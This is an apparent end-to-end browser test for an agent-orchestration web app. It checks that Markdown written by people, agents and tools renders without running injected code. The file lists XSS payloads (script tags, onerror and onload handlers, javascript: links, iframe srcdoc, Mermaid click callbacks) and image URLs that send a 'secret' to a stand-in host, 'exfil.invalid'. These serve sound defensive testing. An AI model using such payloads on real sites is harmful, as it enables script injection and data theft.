/**
 * What agents write, shown as written — and nothing more (issue 15), in headless Chromium
 * against the stack started as `npm start` starts it. The same Markdown, carrying legitimate
 * formatting (bold, a table, a TypeScript block, a Mermaid diagram) and the usual injections
 * (`<script>`, `onerror`, a `javascript:` link, an iframe with `srcdoc`, an SVG with `onload`,
 * a Mermaid label with an `<img onerror>` and `click` callbacks, and images on another site whose
 * URLs would carry a secret there the moment they load), is written by a person in the
 * chat, by the tech lead in its reply, by a task as its summary and its question, and printed by
 * a task's command (tool output) and read back by the tech lead's tool (its card). Each place
 * shows the formatting rendered, and none runs the injected code: `window.__pwned` stays unset,
 * no dialog opens, and the page holds no `<script>`, iframe, `on*` attribute or `javascript:`
 * URL in what was rendered, and the browser asks the other site for nothing (its Markdown image is
 * a link, its raw `<img>` has no `src`). A task that edited a file shows its diff file by file (removed and
 * added lines in diff2html's table). Screenshots are kept in test-artifacts/.
 */
import { mkdirSync } from "node:fs";
import { resolve } from "node:path";
import type { Browser, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launchChromium, signedInPage } from "./chromium.ts";
import { call, startStack, waitForTaskEnd, type Stack } from "./stack.ts";

const artifacts = resolve(import.meta.dirname, "../../test-artifacts");
/** How long a live change may take to show: generous, the machine is small and runs workerd. */
const LIVE = { timeout: 60_000 };

/** The injections; each would set `window.__pwned` (or open a dialog) if it ran. */
const INJECTIONS = [
  "<script>window.__pwned=1</script>",
  '<img src=x onerror="window.__pwned=1">',
  "[click me](javascript:window.__pwned=1)",
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  '<svg onload="window.__pwned=1"><circle r="1"></circle></svg>',
  '<a href="javascript:alert(1)" onclick="window.__pwned=1">plain link</a> <img src=x onerror="alert(1)"> <details open ontoggle="window.__pwned=1">x</details>',
].join("\n\n");

/** The site an injected image would send a secret to (it never resolves; a request to it is what the test watches for). */
const EXFIL_HOST = "exfil.invalid";

/** Markdown with real formatting and every injection; `tag` tells the places apart. */
function payload(tag: string): string {
  return [
    `## Report ${tag}`,
    `This is **bold ${tag}** and \`inline code\`.`,
    "| file | lines |\n|------|-------|\n| app.js | 2 |",
    "```ts\nconst answer: number = 42;\n```",
    '```mermaid\ngraph TD\n  A["<img src=x onerror=window.__pwned=1>start"] --> B[done]\n  click A callback "tip"\n  click B "javascript:window.__pwned=1"\n```',
    INJECTIONS,
    `![leak ${tag}](https://${EXFIL_HOST}/leak.png?secret=${tag}) <img src="https://${EXFIL_HOST}/raw.png?secret=${tag}" alt="raw ${tag}">`,
  ].join("\n\n");
}

let stack: Stack;
let browser: Browser;
/** Every request a watched page made to EXFIL_HOST. */
const exfiltrations: string[] = [];

beforeAll(async () => {
  mkdirSync(artifacts, { recursive: true });
  stack = await startStack();
  browser = await launchChromium();
});

afterAll(async () => {
  await browser?.close();
  await stack?.stop();
});

/** A signed-in page that records dialogs and offers Mermaid's `click A callback` a function that would pwn the page. */
async function watchedPage(): Promise<{ page: Page; dialogs: string[] }> {
  const page = await signedInPage(browser, stack, { width: 1300, height: 1000 });
  const dialogs: string[] = [];
  page.on("request", (request) => {
    if (new URL(request.url()).hostname === EXFIL_HOST) exfiltrations.push(request.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.context().addInitScript(() => {
    (window as unknown as { callback: () => void }).callback = () => {
      (window as unknown as { __pwned: number }).__pwned = 1;
    };
  });
  return { page, dialogs };
}

/** What a rendered page holds that it must not: counts of each kind of leftover. */
async function leftovers(page: Page) {
  return page.evaluate(() => {
    const root = document.getElementById("root") as HTMLElement;
    const all = Array.from(root.querySelectorAll("*"));
    return {
      pwned: (window as unknown as { __pwned?: unknown }).__pwned,
      scripts: root.querySelectorAll("script").length,
      iframes: document.querySelectorAll("iframe, frame, object, embed").length,
      handlers: all.flatMap((el) => Array.from(el.attributes).filter((a) => a.name.toLowerCase().startsWith("on")).map((a) => `${el.tagName}.${a.name}`)),
      javascriptUrls: all.flatMap((el) =>
        Array.from(el.attributes)
          .filter((a) => /^\s*javascript:/i.test(a.value) && /href|src|action/i.test(a.name))
          .map((a) => `${el.tagName}.${a.name}`),
      ),
    };
  });
}

async function expectClean(page: Page, dialogs: string[]): Promise<void> {
  // Clicking the diagrams' nodes would run a `click` callback, were one bound.
  for (const node of await page.locator(".mermaid-diagram svg .node").all()) await node.click({ force: true }).catch(() => undefined);
  for (const link of await page.locator(".render-md a").all()) {
    const href = await link.getAttribute("href");
    if (!href || href.startsWith("javascript")) await link.click({ force: true }).catch(() => undefined);
  }
  expect(await leftovers(page)).toEqual({ pwned: undefined, scripts: 0, iframes: 0, handlers: [], javascriptUrls: [] });
  expect(dialogs).toEqual([]);
  expect(exfiltrations).toEqual([]);
}

/** The legitimate formatting rendered inside `scope` (a locator of one rendered Markdown block). */
async function expectFormatted(scope: ReturnType<Page["locator"]>, tag: string): Promise<void> {
  await scope.locator("strong").filter({ hasText: `bold ${tag}` }).waitFor();
  expect(await scope.locator("table th").allInnerTexts()).toEqual(["file", "lines"]);
  expect(await scope.locator("pre code.hljs.language-ts .hljs-keyword").first().innerText()).toBe("const");
  await scope.locator(".mermaid-diagram svg").first().waitFor(LIVE);
  // The injected HTML is gone, not shown: no img with a handler, no iframe, no svg of the text's own.
  expect(await scope.locator("img[onerror], iframe, svg[onload], script").count()).toBe(0);
  // Another site's images load nothing: the Markdown one is a link to follow, the raw one has no src.
  expect(await scope.locator("a.render-image-link").evaluateAll((links) => links.map((a) => a.getAttribute("href")))).toEqual([`https://${EXFIL_HOST}/leak.png?secret=${tag}`]);
  expect(await scope.locator(`img[alt="raw ${tag}"]`).evaluateAll((images) => images.map((img) => img.getAttribute("src")))).toEqual([null]);
  // The `javascript:` link is left as text, without its URL.
  expect(await scope.locator("a", { hasText: "click me" }).evaluateAll((links) => links.map((a) => a.getAttribute("href")))).toEqual([null]);
}

describe("agents' Markdown, rendered safely", () => {
  it("renders the chat, the tech lead's reply and card, a task's summary, question, tool output and diff without running injected code", async () => {
    const project = await call<{ id: string }>(stack, "/api/projects", { json: { name: `render ${Date.now()}` } });
    const session = await call<{ id: string }>(stack, `/api/projects/${project.id}/sessions`, { json: { title: "Render", kind: "tech-lead" } });

    // A task that edits a file, prints injections (tool output) and reports in Markdown (summary).
    const printed = "<script>window.__pwned=1</script><img src=x onerror=window.__pwned=1>";
    const task = await call<{ id: string }>(stack, `/api/projects/${project.id}/tasks`, {
      json: {
        prompt: "Edit app.js and report",
        model: "scripted",
        workspace: { files: { "app.js": "const a = 1;\nconst b = 2;\nconst c = 3;\n" } },
        script: [
          { toolCalls: [{ toolName: "edit_file", input: { path: "app.js", old_string: "const b = 2;", new_string: "const b = 20;" } }] },
          { toolCalls: [{ toolName: "bash", input: { command: `printf '%s\\n' '// <img src=x onerror=window.__pwned=1>' >> app.js && printf '%s\\n' '${printed}'` } }] },
          { text: payload("summary") },
        ],
      },
    });
    expect((await waitForTaskEnd(stack, task.id)).status).toBe("succeeded");
    // A task that asks its question in Markdown and waits.
    const asking = await call<{ id: string }>(stack, `/api/projects/${project.id}/tasks`, {
      json: { prompt: "Ask", model: "scripted", script: [{ toolCalls: [{ toolName: "ask_human", input: { question: payload("question") } }] }, { text: "ok" }] },
    });
    // The tech lead reads the first task (its card's output holds the summary) and replies in Markdown.
    await call(stack, `/api/projects/${project.id}`, {
      method: "PATCH",
      json: { techLead: { model: "scripted", script: [{ toolCalls: [{ toolName: "get_task", input: { taskId: task.id } }] }, { text: payload("lead") }] } },
    });

    const { page, dialogs } = await watchedPage();

    // The chat: a person's message, typed in the page, and the tech lead's reply with its card.
    await page.goto(`${stack.url}/projects/${project.id}/sessions/${session.id}`);
    await page.getByTestId("chat-input").fill(payload("person"));
    await page.getByTestId("chat-send-button").click();
    const mine = page.getByTestId("chat-message").filter({ hasText: "bold person" });
    await mine.waitFor(LIVE);
    await expectFormatted(mine.getByTestId("chat-message-text"), "person");
    const reply = page.getByTestId("chat-message").and(page.locator('[data-author-kind="tech-lead"]'));
    await reply.waitFor(LIVE);
    await expectFormatted(reply.getByTestId("chat-message-text"), "lead");
    const card = reply.getByTestId("chat-tool-card");
    expect(await card.getAttribute("data-tool-name")).toBe("get_task");
    await card.locator("summary", { hasText: "Output" }).click();
    const output = card.getByTestId("chat-tool-output");
    // The card's JSON is highlighted, and the summary inside it is shown as text.
    await output.locator("code.hljs.language-json").waitFor();
    expect(await output.innerText()).toContain("<script>window.__pwned=1</script>");
    await expectClean(page, dialogs);
    await page.screenshot({ path: resolve(artifacts, "ui-render-chat.png"), fullPage: true });

    // The question waiting on top of the project page.
    await page.goto(`${stack.url}/projects/${project.id}`);
    const pending = page.getByTestId("pending-question").and(page.locator(`[data-task-id="${asking.id}"]`));
    await pending.waitFor(LIVE);
    await expectFormatted(pending.getByTestId("pending-question-text"), "question");
    await expectClean(page, dialogs);
    await page.screenshot({ path: resolve(artifacts, "ui-render-question.png"), fullPage: true });

    // The task page: summary rendered, tool output shown as text, the diff file by file.
    await page.goto(`${stack.url}/tasks/${task.id}`);
    await page.getByTestId("task-status").filter({ hasText: /^succeeded$/ }).waitFor(LIVE);
    await expectFormatted(page.getByTestId("task-summary"), "summary");
    const toolOutput = page.getByTestId("tool-output").filter({ hasText: "window.__pwned" });
    await toolOutput.waitFor(LIVE);
    expect(await toolOutput.innerText()).toContain(printed);

    const file = page.getByTestId("diff-file").and(page.locator('[data-path="app.js"]'));
    await file.waitFor(LIVE);
    expect(await file.getByTestId("diff-added").innerText()).toBe("+2");
    expect(await file.getByTestId("diff-removed").innerText()).toBe("−1");
    const diff = file.getByTestId("diff-view");
    const removed = await diff.locator("td.d2h-del .d2h-code-line-ctn").allInnerTexts();
    const added = await diff.locator("td.d2h-ins .d2h-code-line-ctn").allInnerTexts();
    expect(removed.map((l) => l.trim())).toEqual(["const b = 2;"]);
    expect(added.map((l) => l.trim())).toEqual(["const b = 20;", "// <img src=x onerror=window.__pwned=1>"]);
    // The whole file is there too, on demand.
    await file.getByTestId("diff-view-file").click();
    expect(await file.getByTestId("diff-file-content").innerText()).toContain("const b = 20;");
    // Side by side: the same changes in two columns.
    await page.getByTestId("diff-side-by-side").check();
    await diff.locator(".d2h-file-side-diff").first().waitFor();
    expect(await diff.locator(".d2h-file-side-diff").count()).toBe(2);
    await expectClean(page, dialogs);
    await page.screenshot({ path: resolve(artifacts, "ui-render-task.png"), fullPage: true });
  });
});
